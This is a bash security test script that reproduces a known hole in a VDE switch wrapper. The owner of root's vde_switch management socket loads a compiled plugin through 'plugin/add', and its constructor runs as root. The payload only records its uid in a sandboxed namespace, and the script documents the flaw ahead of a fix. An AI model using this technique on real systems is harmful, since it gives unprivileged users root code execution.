#!/usr/bin/env bash
# Reproduces an OPEN hole (README "Hostile local users", "Known hole"): the owner of a switch that root's
# vde_switch serves can run code as root through the management socket CtysVde hands to them, because vde_switch's
# `plugin/add PATH` dlopen()s any path. Not run by CI: it proves the hole, it does not guard against it. Once
# switches run as their owners (the planned fix), the same steps must show uid=OWNER, not uid=0.
#
# Usage (as root): bash tests/security/owner-runs-code-as-root.sh
# Safety: everything runs in a private network and mount namespace (.ci/in-netns: private /var/tmp and /run);
# only the switch it starts is stopped, through its own management socket. Needs gcc, socat, vde_switch, runuser.
set -euo pipefail
if [ -z "${CTYSVDE_REPRO_INNER:-}" ]; then
  [ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 2; }
  repo=$(cd "$(dirname "$0")/../.." && pwd)
  exec env CTYSVDE_REPRO_INNER=1 unshare --net --mount --fork -- bash "$repo/.ci/in-netns" bash "$0"
fi
dir=/var/tmp/repro
mkdir -p "$dir/owner"
cat > "$dir/owner/plugin.c" <<'C'
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void init(void) {
    FILE *f = fopen("/var/tmp/repro/ran-as", "w");
    if (f) { fprintf(f, "uid=%d euid=%d\n", getuid(), geteuid()); fclose(f); }
}
C
gcc -shared -fPIC -o "$dir/owner/plugin.so" "$dir/owner/plugin.c"
chown -R nobody "$dir/owner"
# What CtysVde's create does for a non-root owner today: root's vde_switch, its management socket handed to the owner.
vde_switch -d -s "$dir/sw" -M "$dir/mgmt" -p "$dir/pid"
for _ in $(seq 50); do [ -S "$dir/mgmt" ] && break; sleep 0.1; done
chown nobody "$dir/mgmt"
runuser -u nobody -- sh -c "printf 'plugin/add $dir/owner/plugin.so\n' | socat - UNIX-CONNECT:$dir/mgmt" >/dev/null
printf 'shutdown\n' | socat - UNIX-CONNECT:"$dir/mgmt" >/dev/null || true
echo "the owner's plugin ran as: $(cat "$dir/ran-as")"
grep -q '^uid=0 ' "$dir/ran-as" && { echo "HOLE: the switch's owner ran code as root"; exit 1; }
echo "no escalation"
